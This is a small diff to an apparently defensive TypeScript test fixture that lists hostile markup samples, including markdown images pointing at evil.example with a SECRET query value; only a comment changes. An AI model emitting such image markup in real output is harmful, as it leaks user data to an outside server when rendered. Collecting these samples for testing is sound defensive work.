@@ -1,6 +1,6 @@
 import { type HostileText, hostile } from './canary.ts';
 
-/** What a reader's screen would load, link or run. */
+/** Markup that a screen would load, link or run. */
 export const MARKUP: readonly HostileText[] = [
   hostile('a markdown image', '![a](https://evil.example/p.png?q=SECRET)'),
   hostile('an image by reference', '![a][r]\n\n[r]: https://evil.example/p.png'),
